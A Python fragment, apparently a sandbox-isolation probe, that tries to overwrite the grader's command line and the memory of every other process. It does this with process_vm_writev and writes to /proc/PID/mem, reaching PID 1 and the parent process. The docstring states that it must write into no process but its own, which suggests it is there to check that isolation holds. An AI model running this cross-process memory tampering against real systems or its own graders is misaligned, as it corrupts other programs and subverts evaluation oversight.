"""Idea: memory of the grader is written: its command line is replaced by words of ours.
Must: write into no process but its own.
"""

import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
word = ctypes.create_string_buffer(MARK.encode())


class Part(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


for pid in [1, os.getppid(), *(int(name) for name in os.listdir("/proc") if name.isdigit())]:
    if pid == os.getpid():
        continue
    try:
        with open(f"/proc/{pid}/stat") as file:
            start = int(file.read().rpartition(")")[2].split()[45])
        ours, theirs = Part(ctypes.addressof(word), len(MARK)), Part(start, len(MARK))
        libc.process_vm_writev(pid, ctypes.byref(ours), 1, ctypes.byref(theirs), 1, 0)
        with open(f"/proc/{pid}/mem", "r+b", 0) as memory:
            memory.seek(start)
            memory.write(MARK.encode())
        loot.append(f"the memory of {pid} was written")
    except (OSError, ValueError, IndexError, OverflowError):
        pass
